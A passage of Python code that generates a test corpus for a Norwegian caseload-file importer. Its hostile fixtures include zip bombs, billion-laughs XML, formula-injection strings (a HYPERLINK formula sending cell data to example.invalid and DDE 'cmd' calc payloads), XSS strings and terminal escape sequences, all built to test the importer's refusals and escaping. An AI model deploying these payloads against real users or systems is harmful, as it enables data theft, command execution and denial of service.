    return header + struct.pack("<128I", *fat) + directory + body


def _pseudo_random(n: int, seed: int = 20261123) -> bytes:
    out = bytearray()
    x = seed
    while len(out) < n:
        x = (x * 6364136223846793005 + 1442695040888963407) % 2**64
        out += (x >> 33).to_bytes(4, "little")
    return bytes(out[:n])


def xls_bytes() -> bytes:
    # a BIFF8 BOF record (type 0x0809, workbook globals) and an EOF record, as an old .xls starts and ends
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06)
    return cfb_bytes([("Workbook", bof + struct.pack("<HH", 0x000A, 0))])


def encrypted_xlsx_bytes() -> bytes:
    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
            b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    package = struct.pack("<Q", 6000) + _pseudo_random(6000)
    return cfb_bytes([("EncryptionInfo", info), ("EncryptedPackage", package)])


# --------------------------------------------------------------------------------------
# hostile zips
# --------------------------------------------------------------------------------------

LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10)) + "]>")


def bomb_xlsx(megabytes: int) -> bytes:
    """A workbook whose one sheet expands to ``megabytes`` MB (a valid sheet padded with spaces)."""
    head = f'{XML_HEAD}<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>case_id'
    tail = "</t></is></c></row></sheetData></worksheet>"
    parts = xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
    body = head.encode() + b" " * (megabytes * 1_000_000) + tail.encode()
    parts = [(n, body if n == "xl/worksheets/sheet1.xml" else b) for n, b in parts]
    return zip_bytes(parts, level=9)


def lying_size_xlsx() -> bytes:
    """A workbook whose sheet member declares 1,000 bytes but expands to 10 MB (headers patched)."""
    sheet = f'{XML_HEAD}<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode() + b" " * 10_000_000 + \
        b"</sheetData></worksheet>"
    parts = xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
    parts = [(n, sheet if n == "xl/worksheets/sheet1.xml" else b) for n, b in parts]
    data = bytearray(zip_bytes(parts, level=9))
    zf = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = zf.getinfo("xl/worksheets/sheet1.xml")
    # local header: uncompressed size at offset 22; central directory entry: at offset 24
    struct.pack_into("<I", data, info.header_offset + 22, 1000)
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        name_len = struct.unpack_from("<H", data, cd + 28)[0]
        if data[cd + 46:cd + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, cd + 24, 1000)
            break
        cd = data.find(b"PK\x01\x02", cd + 4)
    return bytes(data)


def zeros_bomb(path: Path, gigabytes: int = 1) -> None:
    """A valid workbook whose sheet1.xml is `gigabytes` GB of zero bytes after a sheet's start.

    Compressing a gigabyte takes seconds, so one 16 MiB block is compressed after a full flush
    (it then depends on nothing before it) and repeated: the result is a correct deflate stream
    with a correct CRC, written as a hand-made zip entry.
    """
    block = 1 << 24
    count = gigabytes * 64
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    body = comp.compress(b"\0" * block) + comp.flush(zlib.Z_FULL_FLUSH)
    last = comp.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    zeros = b"\0" * block
    for _ in range(count):
        crc = zlib.crc32(zeros, crc)
    size = len(head) + block * count
    packed = len(first) + len(body) * count + len(last)
    others = [(n, b) for n, b in xlsx_parts([Sheet("cases", [["case_id"], ["S-1"]])], shared=False)
              if n != "xl/worksheets/sheet1.xml"]
    name = b"xl/worksheets/sheet1.xml"
    with open(path, "wb") as fh:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n, b in others:
                z.writestr(n, b)
        small = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        cd_start = buf.getvalue().find(b"PK\x01\x02")
        fh.write(buf.getvalue()[:cd_start])
        offset = cd_start
        fh.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0) + name)
        fh.write(first)
        for _ in range(count):
            fh.write(body)
        fh.write(last)
        cd_at = fh.tell()
        cd = buf.getvalue()[cd_start: buf.getvalue().find(b"PK\x05\x06")]
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, packed, size, len(name),
                          0, 0, 0, 0, 0, offset) + name
        fh.write(cd)
        n = len(small.infolist()) + 1
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_at, 0))


# --------------------------------------------------------------------------------------
# the corpus
# --------------------------------------------------------------------------------------


def messy_csv() -> dict[str, bytes]:
    """BASE by hand, as a messy export: trailing spaces, empty rows, extra and ragged columns,
    every date spelling in one column, yes/no spellings, quoted fields, a non-breaking space."""
    cases = (
        "sak_id ; Fødselsdato ;ÅPNET;avsluttet;ønsker_koordinator;langvarig_behov;ip_startet;"
        "pårørende_kartlagt;kommunenummer;Merknad\r\n"
        "S-1 ;1.5.1980;2024-1-10;;J;x;01.02.2024;;1112;\"ringt; venter\"\r\n"
        ";;;;;;;;;\r\n"
        "\r\n"
        "\u00a0S-2\u00a0;2015-03-03;01.06.2025;;Ja ;Nei;2025-07-01;1.7.2025;1112;\r\n"
        "S-3;01.01.1990;2023-01-01T00:00:00;2024-01-01 00:00;nei;false;;;1112;;ekstra celle\r\n"
    )
    services = (
        "case_id,service,category,provider,start_date,end_date\r\n"
        "S-1,Hjemmesykepleie ,,\"Hjemmetjenesten sør\",2024-01-01,\r\n"
        ",,,,,\r\n"
        "S-1, fysioterapi,HELSE,Fysioterapitjenesten,01.02.2024,\r\n"
        "S-2,avlastning,omsorg,Åsen avlastning,1.7.2025,\r\n"
    )
    other = {t: csv_bytes(base_rows(t, date_style="no"), delimiter=";", encoding="cp1252")
             for t in BASE if t not in ("cases", "services")}
    out = {"csv_messy/saker.csv": cases.encode("cp1252"), "csv_messy/tjenester.csv": services.encode("cp1252")}
    out.update({f"csv_messy/{t}.csv": b for t, b in other.items()})
    return out


def mixed_good_bad() -> dict[str, list[dict[str, Any]]]:
    """Good rows with bad ones between them: each bad row names its problem."""
    doc = json.loads(json.dumps(BASE))
    doc["cases"] += [
        {"case_id": "S-4", "birth_date": "31.02.2001", "opened_on": "2025-01-01"},  # impossible: warning
        {"case_id": "S-5", "birth_date": "01.03.25", "opened_on": "03/01/2025"},  # ambiguous: two warnings
        {"case_id": "S-1", "birth_date": "1980-05-01"},  # duplicate id: set aside
        {"case_id": "", "birth_date": "2000-01-01"},  # required empty: set aside
        {"case_id": "S-6", "opened_on": "2025-05-05", "closed_on": "2025-01-01"},  # end before start
        {"case_id": "S-7", "wants_coordinator": "kanskje", "opened_on": 45000},  # two warnings
    ]
    doc["services"] += [
        {"case_id": "S-99", "service": "fysioterapi", "start_date": "2025-01-01"},  # unknown case
        {"case_id": "S-6", "service": "fysioterapi", "start_date": "2025-01-01"},  # case set aside
        {"case_id": "S-2", "service": "Hørselskontakt", "start_date": "2025-01-01"},  # unknown service: warning
        {"case_id": "S-2", "service": "ergoterapi", "start_date": "i fjor"},  # not a date: set aside
    ]
    doc["assignments"].append({"case_id": "S-2", "coordinator_id": "K-9", "start_date": "2025-01-01"})
    doc["meetings"].append({"meeting_id": "M-2", "case_id": "S-2", "meeting_date": "2027-01-10", "status": "avholdt",
                            "kind": "ansvarsgruppemøte"})  # held in the future: warning
    doc["consents"].append({"case_id": "S-2", "scope": "alt", "given_on": "2025-01-01"})  # not in list: set aside
    doc["relatives"].append({"case_id": "S-2", "relation": "nabo"})  # unknown relation: set aside
    return doc


def planted_rows() -> dict[str, list[list[Any]]]:
    """Identity numbers where a KE might put them: as a case id, in a date column, in a name, as a header."""
    cases = [["case_id", "birth_date", "opened_on", "ip_started_on", "merknad", FNR_B],
             [FNR_A, "1990-01-01", "2024-01-01", "2024-02-01", f"fnr {FNR_A}", ""],
             ["S-2", FNR_B, "2024-01-01", "", f"D-nummer {DNR[:6]} {DNR[6:]}", "x"]]
    coordinators = [["coordinator_id", "name"], ["K-1", f"Ola Nordmann {DNR}"]]
    assignments = [["case_id", "coordinator_id", "start_date"], [FNR_A, "K-1", "2024-01-15"]]
    return {"cases": cases, "coordinators": coordinators, "assignments": assignments}


INJECTIONS = ['=HYPERLINK("http://example.invalid/x?d="&A1,"klikk")', "<script>alert('x')</script>",
              "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "\t=1+1", '"><img src=x onerror=alert(1)>']


def injection_rows() -> dict[str, list[list[Any]]]:
    cases = [["case_id", "opened_on", "ip_started_on", "merknad"],
             ["S-1", "2024-01-01", "2024-02-01", INJECTIONS[0]],
             ["S-2", INJECTIONS[0], "", INJECTIONS[1]],  # a formula in a date column: warning, value kept in report
             [INJECTIONS[1], "2024-01-01", "2024-02-01", ""]]  # a script tag as a case id: a finding's subject
    services = [["case_id", "service", "category", "provider", "start_date"],
                ["S-1", INJECTIONS[2], "helse", INJECTIONS[3], "2024-01-01"],
                ["S-1", INJECTIONS[4], "", INJECTIONS[5], "2024-01-01"],
                ["S-1", INJECTIONS[6], "omsorg", "x", "2024-01-01"]]
    return {"cases": cases, "services": services}


def demo_cp1252() -> dict[str, bytes]:
    """fixtures/demo.json as Norwegian Excel writes CSV: Windows-1252, ';', CRLF, ja/nei for booleans."""
    doc = json.loads((ROOT / "fixtures" / "demo.json").read_text(encoding="utf-8"))
    out = {}
    for key, rows in doc.items():
        header = list(dict.fromkeys(k for r in rows for k in r))
        body = [[text_of(r.get(c)) for c in header] for r in rows]
        out[f"demo_cp1252/{key}.csv"] = csv_bytes([header, *body], delimiter=";", encoding="cp1252")
    return out


def corpus() -> dict[str, bytes]:
    files: dict[str, bytes] = {}

    # --- valid: BASE in every spelling (five findings each)
    files["base.json"] = json_bytes(BASE)
    files.update(base_csv_folder("csv_utf8_comma"))
    files.update(base_csv_folder("csv_utf8_bom_semicolon", delimiter=";", bom=True))
    files.update(base_csv_folder("csv_cp1252_semicolon_nb", nb=True, delimiter=";", encoding="cp1252"))
    files.update(base_csv_folder("csv_tab", delimiter="\t"))
    files.update(messy_csv())
    sep = base_csv_folder("csv_sep_line", delimiter=";", encoding="cp1252")
    files.update({k: b"sep=;\r\n" + v for k, v in sep.items()})
    files["xlsx_base.xlsx"] = xlsx_bytes(base_sheets())
    files["xlsx_base_nb_inline.xlsx"] = xlsx_bytes(base_sheets(nb=True, dates="text"), shared=False)
    files["xlsx_phantom_dimension.xlsx"] = xlsx_bytes(base_sheets(dimension="A1:Z1048576"))
    phantom = base_sheets()
    phantom[0].far = [("Z1048576", Inline(""))]
    phantom[5].far = [("AB1048000", " ")]  # meetings: a blank shared string far down
    files["xlsx_phantom_blank_cell.xlsx"] = xlsx_bytes(phantom)
    files["xlsx_messy.xlsx"] = xlsx_bytes(messy_xlsx_sheets())
    files["xlsx_formulas_cached.xlsx"] = xlsx_bytes(formula_sheets())
    files["xlsx_les_meg_merged.xlsx"] = xlsx_bytes(
        [Sheet("LES_MEG", [["ke-rules — les meg", None, None], ["Fyll inn arkene."]], merges=["A1:C1"]),
         *base_sheets(), Sheet("Lister", [["ja", "nei"]], merges=["A1:B1"])])
    files.update(demo_cp1252())

    # --- valid with problems
    files["json_mixed_good_bad.json"] = json_bytes(mixed_good_bad())
    files["json_numbers_as_ids.json"] = json_bytes({
        "cases": [{"case_id": 7, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": "007", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": 1001.0, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
                  {"case_id": 1.5, "ip_started_on": "2024-02-01"}, {"case_id": True}],
        "consents": [{"case_id": "7", "scope": "ip", "given_on": "2024-01-01"}],
    })
    files["csv_ids_look_like_numbers/cases.csv"] = csv_bytes(
        [["case_id", "opened_on", "ip_started_on"], ["007", "2024-01-01", "2024-02-01"], ["7", "2024-01-01", ""],
         ["1e3", "2024-01-01", ""], ["0012", "2024-01-01", ""], ["007 ", "2024-01-01", ""]])
    files["csv_ids_look_like_numbers/consents.csv"] = csv_bytes(
        [["case_id", "scope", "given_on"], ["7", "ip", "2024-01-01"]])
    files["xlsx_ids_numeric.xlsx"] = xlsx_bytes([Sheet("cases", [
        ["case_id", "opened_on", "ip_started_on"], [7, dt.date(2024, 1, 1), dt.date(2024, 2, 1)],
        [Inline("007"), dt.date(2024, 1, 1), dt.date(2024, 2, 1)], [1001.0, dt.date(2024, 1, 1), dt.date(2024, 2, 1)],
        ["0012", dt.date(2024, 1, 1), dt.date(2024, 2, 1)], [F("5+2", 7), dt.date(2024, 1, 1), None],
        [12.5, None, dt.date(2024, 2, 1)], [True, None, None]]),
        Sheet("consents", [["case_id", "scope", "given_on"], ["7", "ip", dt.date(2024, 1, 1)]])])
    files["csv_quoted_multiline/cases.csv"] = (
        b'case_id,opened_on,merknad,ip_started_on\r\n'
        b'S-1,2024-01-01,"linje 1\r\nlinje 2, med komma\r\nog ""sitat""",2024-02-01\r\n'
        b'S-2,2024-01-01,,\r\n')
    files["csv_header_only/cases.csv"] = b"case_id,birth_date\r\n"
    files["csv_empty_cases/cases.csv"] = b""
    files["xlsx_merged_data_cells.xlsx"] = xlsx_bytes([Sheet("cases", [
        ["case_id", "opened_on", "merknad"], ["S-1", dt.date(2024, 1, 1), "to rader"],
        [None, dt.date(2024, 1, 1), None], ["S-2", dt.date(2024, 1, 1), None]], merges=["A2:A3", "C2:C3"])])
    files["xlsx_formula_error_cached.xlsx"] = xlsx_bytes([Sheet("cases", [
        ["case_id", "opened_on", "birth_date"], ["S-1", dt.date(2024, 1, 1), F("1/0", "#DIV/0!", "e")],
        ["S-2", F("NA()", "#N/A", "e"), dt.date(2000, 1, 1)], [F("NA()", "#N/A", "e"), dt.date(2024, 1, 1), None]])])
    for kind, tables in (("planted_fnr", planted_rows()), ("injection", injection_rows())):
        files.update({f"csv_{kind}/{t}.csv": csv_bytes(rows, delimiter=";", encoding="cp1252")
                      for t, rows in tables.items()})
        files[f"json_{kind}.json"] = json_bytes(
            {t: [dict(zip(rows[0], r, strict=True)) for r in rows[1:]] for t, rows in tables.items()})
    planted = planted_rows()
    planted["cases"].append(["S-3", int(FNR_LEADING_ZERO), dt.date(2024, 1, 1), None, None, None])
    files["xlsx_planted_fnr.xlsx"] = xlsx_bytes([Sheet(t, rows) for t, rows in planted.items()])
    inj = injection_rows()
    inj["cases"].append(["S-3", F('HYPERLINK("http://example.invalid","klikk")', "klikk", "str"),
                         dt.date(2024, 2, 1), F('"=cmd|x"', "=cmd|x", "str")])
    files["xlsx_injection.xlsx"] = xlsx_bytes([Sheet(t, rows) for t, rows in inj.items()])

    # --- refused: not a workbook, broken, hostile
    files["xlsx_text_file.xlsx"] = b"case_id;birth_date\r\nS-1;01.01.2000\r\n"
    files["xlsx_empty.xlsx"] = b""
    files["xlsx_html.xlsx"] = (b"<html><body><table><tr><td>case_id</td></tr><tr><td>S-1</td></tr></table>"
                               b"</body></html>")
    files["xlsx_old_xls_renamed.xlsx"] = xls_bytes()
    files["old_format.xls"] = xls_bytes()
    files["xlsx_encrypted.xlsx"] = encrypted_xlsx_bytes()
    files["xlsx_truncated.xlsx"] = files["xlsx_base.xlsx"][: len(files["xlsx_base.xlsx"]) // 2]
    files["xlsx_bomb.xlsx"] = bomb_xlsx(60)
    files["xlsx_lying_size.xlsx"] = lying_size_xlsx()
    files["xlsx_billion_laughs_sst.xlsx"] = xlsx_bytes(base_sheets(), sst_prolog=LAUGHS, sst_entity="&lol9;")
    laughs = base_sheets()
    laughs[0].prolog = LAUGHS
    laughs[0].rows[1][0] = Raw('<c r="{ref}" t="inlineStr"><is><t>&lol9;</t></is></c>')
    files["xlsx_billion_laughs_sheet.xlsx"] = xlsx_bytes(laughs)
    merged = base_sheets(nb=True)
    merged[0].rows[0][1:3] = ["Datoer", None]
    merged[0].merges = ["B1:C1"]
    files["xlsx_merged_header.xlsx"] = xlsx_bytes(merged)
    uncached = base_sheets()
    uncached[0].rows[1][2] = F("DATE(1980,5,1)", None, style=STYLE_DATE)
    uncached[0].rows[2][2] = F("DATE(2015,3,3)", None, style=STYLE_DATE)
    files["xlsx_formula_uncached.xlsx"] = xlsx_bytes(uncached)
    far = base_sheets()
    far[0].far = [("XFD1048576", "glemt her")]
    files["xlsx_far_value.xlsx"] = xlsx_bytes(far)
    files["xlsx_zip_not_workbook.xlsx"] = zip_bytes([("hei.txt", b"dette er ikke en arbeidsbok")])
    files["xlsx_no_cases_sheet.xlsx"] = xlsx_bytes([s for s in base_sheets() if s.name != "cases"])
    files["json_not_object.json"] = b"[1, 2, 3]"
    files["json_top_null.json"] = b"null"
    files["json_table_not_list.json"] = json_bytes({"cases": {"case_id": "S-1"}})
    files["json_nan.json"] = b'{"cases": [{"case_id": "S-1", "agreed_max_cases": NaN}]}'
    files["json_infinity.json"] = b'{"cases": [{"case_id": "S-1", "x": -Infinity}]}'
    files["json_nested.json"] = json_bytes({"cases": [{"case_id": "S-1", "birth_date": {"year": 2000}}]})
    files["json_truncated.json"] = json_bytes(BASE)[:300]
    files["json_empty.json"] = b""
    files["json_deep_nesting.json"] = b'{"cases": ' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    files["json_duplicate_table_key.json"] = (b'{"cases": [{"case_id": "S-1"}, {"case_id": "S-2"}],\n'
                                              b' "cases": [{"case_id": "S-3"}]}')
    files["json_duplicate_column_key.json"] = b'{"cases": [{"case_id": "S-1", "case_id": "S-2"}]}'
    files["csv_binary/cases.csv"] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256))
    files["csv_utf16/cases.csv"] = "case_id\tbirth_date\r\nS-1\t01.01.2000\r\n".encode("utf-16")
    files["csv_no_csv/cases.txt"] = b"case_id\r\nS-1\r\n"
    files["csv_unterminated_quote/cases.csv"] = (b'case_id,opened_on\r\nS-1,2024-01-01\r\n"S-2,2024-01-01\r\n'
                                                 b"S-3,2024-01-01\r\nS-4,2024-01-01\r\n")
    files["csv_missing_required_column/cases.csv"] = b"sak,birth_date\r\nS-1,2000-01-01\r\n"

    # --- issue 10: what the file is, empty caseloads, JSON ids, xlsx merges
    files["csv_bom_only_cases/cases.csv"] = b"\xef\xbb\xbf"
    files["csv_bom_only_cases/services.csv"] = csv_bytes(base_rows("services"))
    files["xlsx_header_only_cases.xlsx"] = xlsx_bytes([Sheet("cases", [columns_of("cases")]),
                                                       *base_sheets()[1:]])
    files["xlsx_empty_cases_sheet.xlsx"] = xlsx_bytes([Sheet("saker", []), *base_sheets(nb=True)[1:]])
    files["xlsx_blank_rows_only_cases.xlsx"] = xlsx_bytes([Sheet("cases", [[None], [None, None], ["", " "]])])
    files["json_cases_empty_list.json"] = json_bytes({**BASE, "cases": []})
    files["json_cases_list_of_empty_rows.json"] = json_bytes({"cases": [{"case_id": None}, {"case_id": " "}]})
    files["json_big_int_ids.json"] = (
        b'{"cases": [{"case_id": 10000000000000000000001, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},\n'
        b'           {"case_id": 10000000000000000000002, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},\n'
        b'           {"case_id": -99999999999999999999999, "opened_on": "2024-01-01"}],\n'
        b' "consents": [{"case_id": "10000000000000000000002", "scope": "ip", "given_on": "2024-01-01"}]}')
    files["json_lone_surrogate_names.json"] = (b'{"cases": [{"case_id": "S-1", "opened_on": "2024-01-01"},\n'
                                               b'           {"case_id": "S-2", "merknad": "hei \\ud83d"}],\n'
                                               b' "notater \\ud83d": [{"tekst \\udc00": "x"}]}')
    files["xlsx_merged_case_id_services.xlsx"] = xlsx_bytes([
        base_sheet("cases"),
        Sheet("services", [columns_of("services"),
                           ["S-1", "hjemmesykepleie", None, "Hjemmetjenesten sør", dt.date(2024, 1, 1), None],
                           [None, "fysioterapi", "helse", "Fysioterapitjenesten", dt.date(2024, 2, 1), None],
                           ["S-2", "avlastning", "omsorg", "Åsen avlastning", dt.date(2025, 7, 1), None]],
              merges=["A2:A3"]),
        *base_sheets()[2:]])
    files["xlsx_blank_rows_above_header.xlsx"] = xlsx_bytes([
        Sheet("saker", [[], [], [None, "sak_id", "åpnet"], [None, "S-1", dt.date(2024, 1, 1)]])])
    files["xlsx_title_above_header.xlsx"] = xlsx_bytes([
        Sheet("cases", [["Saksliste per 1. november"], [], columns_of("cases"), *base_sheet("cases").rows[1:]]),
        *base_sheets()[1:]])
    files["xlsx_merged_title_above_header.xlsx"] = xlsx_bytes([
        Sheet("cases", [["Saksliste per 1. november", None, None], columns_of("cases"),
                        *base_sheet("cases").rows[1:]], merges=["A1:C1"]),
        *base_sheets()[1:]])
    files["xlsx_header_deleted.xlsx"] = xlsx_bytes([Sheet("cases", [[], ["S-1", dt.date(2024, 1, 1)]])])
    files["xlsx_is_ods.xlsx"] = ods_bytes()
    files["ods_spreadsheet.ods"] = ods_bytes()
    files["ods_is_xlsx.ods"] = files["xlsx_base.xlsx"]
    files["json_is_xlsx.json"] = files["xlsx_base.xlsx"]
    files["xlsx_is_json.xlsx"] = json_bytes(BASE)
    files["json_is_csv.json"] = csv_bytes(base_rows("cases"), delimiter=";")
    files["xlsx_is_csv.xlsx"] = csv_bytes(base_rows("cases"), delimiter=";", bom=True)
    files["json_is_xls.json"] = xls_bytes()
    files["xls_is_html.xls"] = (b"<html><head><meta charset='utf-8'></head><body><table><tr><td>case_id</td></tr>"
                                b"<tr><td>S-1</td></tr></table></body></html>")
    files["txt_is_csv.txt"] = csv_bytes(base_rows("cases"), delimiter=";")
    # --- issue 10: outputs (control characters in names and values never reach the terminal or a report raw)
    # ESC sequences (CSI, OSC ending in BEL), NUL, a bare CR, backspace, DEL and C1 controls (CSI \x9b, OSC
    # \x9d, ST \x9c) in a table name, a column name and values; the runs must show them escaped (\x1b)
    tricks = "a\x1b[2Jb\x00c\rd\x08e\x7ff\x9b31mg\x9d0;tittel\x9ch"
    ctl = json.loads(json.dumps(BASE))
    ctl["cases"][0]["merknad\x1b]0;tittel\x07"] = tricks
    ctl["coordinators"][1]["trained_on"] = "\x1b[2J\x07\x7f\x9b0m"  # not a date: quoted in an input problem
    ctl["ark\x1b[31m"] = [{"x": tricks}]
    files["json_control_characters.json"] = json_bytes(ctl)  # C0 as \u001b escapes, DEL and C1 as raw UTF-8
    folder = base_csv_folder("csv_control_characters")
    cases = base_rows("cases")
    cases[0].append("merknad\x1b[2J\x07")
    cases[1].append(tricks.replace("\x00", ""))  # NUL makes a file binary (refused): JSON and xlsx carry it
    folder["csv_control_characters/cases.csv"] = csv_bytes(cases)
    coordinators = base_rows("coordinators")
    coordinators[2][3] = "\x1b]0;x\x07\x9b2J"
    folder["csv_control_characters/coordinators.csv"] = csv_bytes(coordinators)
    files.update(folder)
    sheets = base_sheets()  # OOXML writes a control character as _x001B_; readers decode it
    sheets[0].rows[0].append("merknad_x001B_[2J_x0007_")
    sheets[0].rows[1].append("a_x001B_]0;tittel_x0007_b_x0000_c_x000D_d_x0008_e\x7ff\x9bg")
    sheets[2].rows[2][3] = "_x001B_[2J"
    files["xlsx_control_characters.xlsx"] = xlsx_bytes(sheets)
    files["json_duplicate_key_controls.json"] = (  # the refusal quotes the key
        b'{"cases": [{"case_id": "S-1", "merk\\u001b]0;x\\u0007": 1, "merk\\u001b]0;x\\u0007": 2}]}')
    # --- issue 10: cell values (Excel errors, invisible characters, half characters, huge numbers,
    # identity numbers with a hyphen or a dot or late in a long value)
    files.update(issue10_values())
    # --- issue 10: CSV reading (quotes in free text, encodings, delimiters, what a folder holds)
    ip = "case_id;opened_on;merknad;ip_started_on\r\n"
    files["csv_quote_in_text/cases.csv"] = (  # quotes as text: 6 cases, the bad date at its own row
        ip + 'S-1;2024-01-01;skjerm 24" levert;2024-02-01\r\nS-2;2024-01-01;"Vil ikke" sa hun;2024-02-01\r\n'
        'S-3;2024-01-01;12" og 15";2024-02-01\r\nS-4;2024-01-01;;2024-02-01\r\n'
        'S-5;2024-01-01;"sitat; med semikolon";2024-02-01\r\nS-6;31.02.2024;ok;2024-02-01\r\n').encode("cp1252")
    files["csv_quote_swallows_rows/cases.csv"] = (  # an even number of quotes: rows 4-6 would vanish
        ip + "S-1;2024-01-01;ok;2024-02-01\r\nS-2;2024-01-01;\"Vil ikke ha IP;2024-02-01\r\n"
        "S-3;2024-01-01;;2024-02-01\r\nS-4;2024-01-01;;2024-02-01\r\n"
        'S-5;2024-01-01;skjerm 24" levert;2024-02-01\r\nS-6;31.02.2024;;2024-02-01\r\n').encode("cp1252")
    files["csv_quote_closed_then_text/cases.csv"] = (  # the quote closing a two-line value is text
        b'case_id,merknad\r\nS-1,"Vil ikke\r\nha IP" sa hun\r\nS-2,\r\n')
    files["csv_cr_line_ends/cases.csv"] = (  # old Mac line ends (\r alone), a blank line, a quoted note
        b'case_id,opened_on,merknad,ip_started_on\rS-1,2024-01-01,"linje 1\rlinje 2",2024-02-01\r\r'
        b"S-2,31.02.2024,,2024-02-01\r")
    files["csv_utf8_stray_byte/saker.csv"] = (  # UTF-8 (ø, å) with one Windows-1252 byte pasted in
        "sak_id;åpnet;merknad;ip_startet\r\nSø-1;2024-01-01;ok;2024-02-01\r\n".encode()
        + b"S-2;2024-01-01;bl\xe5 mappe;2024-02-01\r\n" + "S-3;2024-01-01;grønn;\r\n".encode())
    files["csv_bom_stray_cp1252_byte/cases.csv"] = (  # Excel's CSV UTF-8 with an id pasted from elsewhere
        b"\xef\xbb\xbfcase_id;opened_on;ip_started_on\r\nS-1;2024-01-01;2024-02-01\r\n"
        b"S\xf8-2;2024-01-01;2024-02-01\r\n")
    files["csv_cp1252_one_utf8_pair/cases.csv"] = (  # Windows-1252 text, one pair that is valid UTF-8
        "case_id;opened_on;merknad;ip_started_on\r\nSø-1;2024-01-01;blå;2024-02-01\r\n"
        "S-2;2024-01-01;ÆØÅ« se notat»;2024-02-01\r\n".encode("cp1252"))
    files["csv_double_bom/cases.csv"] = b"\xef\xbb\xbf\xef\xbb\xbfcase_id,opened_on,ip_started_on\r\nS-1,2024-01-01,2024-02-01\r\n"
    files["csv_mojibake_header/saker.csv"] = "sak_id;Ã¥pnet;ip_startet\r\nS-1;2024-01-01;2024-02-01\r\n".encode()
    files["csv_replacement_char_header/cases.csv"] = (
        "case_id,f\ufffddselsdato,opened_on\r\nS-1,2000-01-01,2024-01-01\r\n".encode())
    files["csv_semicolon_header_commas/saker.csv"] = (
        "sak_id;åpnet;kommentar (hvem, hva, når);ip_startet\r\nS-1;01.01.2024;mor, far;01.02.2024\r\n"
        "S-2;01.01.2024;;01.02.2024\r\n".encode("cp1252"))
    files["csv_delimiter_tie/cases.csv"] = (  # ';' and ',' both read two columns with one known name each
        b"case_id;opened_on,birth_date\r\nS-1;2024-01-01,1990-01-01\r\nS-2;2024-01-01,1991-01-01\r\n")
    files["csv_excel_owner_file/cases.csv"] = b"case_id,opened_on,ip_started_on\r\nS-1,2024-01-01,2024-02-01\r\n"
    files["csv_excel_owner_file/~$cases.csv"] = b"\x0bKari Nordmann" + b"\0" * 40  # Excel's lock file
    # --- issue 12: OpenDocument (.ods, LibreOffice's own format), read like .xlsx with the same guards
    files["ods_base.ods"] = ods_bytes_of(base_sheets())
    files["ods_base_nb_text_dates.ods"] = ods_bytes_of(base_sheets(nb=True, dates="text"))
    files["ods_messy.ods"] = ods_bytes_of(messy_xlsx_sheets())
    files["ods_formulas_cached.ods"] = ods_bytes_of(formula_sheets())
    files["ods_les_meg_merged.ods"] = ods_bytes_of(
        [Sheet("LES_MEG", [["ke-rules — les meg", None, None], ["Fyll inn arkene."]], merges=["A1:C1"]),
         *base_sheets(), Sheet("Lister", [["ja", "nei"]], merges=["A1:B1"])])
    repeated = base_sheets()
    repeated[1].rows[1:] = [["S-1", "fysioterapi", "helse", "Fysioterapitjenesten", "i fjor", None]] * 3 + \
        repeated[1].rows[1:]  # three equal rows: one row element, number-rows-repeated="3"
    files["ods_repeated_rows.ods"] = ods_bytes_of(repeated)
    files["ods_formula_error_cached.ods"] = ods_bytes_of([Sheet("cases", [
        ["case_id", "opened_on", "birth_date"], ["S-1", dt.date(2024, 1, 1), F("1/0", "#DIV/0!", "e")],
        ["S-2", F("NA()", "#N/A", "e"), dt.date(2000, 1, 1)], [F("NA()", "#N/A", "e"), dt.date(2024, 1, 1), None]])])
    planted = planted_rows()
    planted["cases"].append(["S-3", int(FNR_LEADING_ZERO), dt.date(2024, 1, 1), None, None, None])
    files["ods_planted_fnr.ods"] = ods_bytes_of([Sheet(t, rows) for t, rows in planted.items()])
    files["ods_renamed.xlsx"] = files["ods_base.ods"]
    files["ods_merged_data_cells.ods"] = ods_bytes_of([Sheet("cases", [
        ["case_id", "opened_on", "merknad"], ["S-1", dt.date(2024, 1, 1), "to rader"],
